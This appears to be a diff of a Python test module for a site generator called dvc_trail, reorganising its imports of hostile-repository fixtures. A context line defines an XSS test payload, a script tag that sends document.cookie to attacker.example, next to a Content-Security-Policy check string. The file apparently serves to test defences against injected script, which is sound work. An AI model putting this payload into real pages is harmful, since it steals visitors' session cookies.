@@ -23,8 +23,8 @@ from pathlib import Path
 import pytest
 
 from dvc_trail.site import paths
-from tests.conftest import commit_all, git, trail
-from tests.test_hostile import _isolated, attack, hostile_repo, local_remote, store_object  # noqa: F401
+from tests.fixtures.hostile import _isolated, attack, hostile_repo, local_remote, store_object  # noqa: F401
+from tests.fixtures.repos import commit_all, git, trail
 
 SCRIPT = "<script>fetch('https://attacker.example/'+document.cookie)</script>"
 CSP = '<meta http-equiv="Content-Security-Policy"'
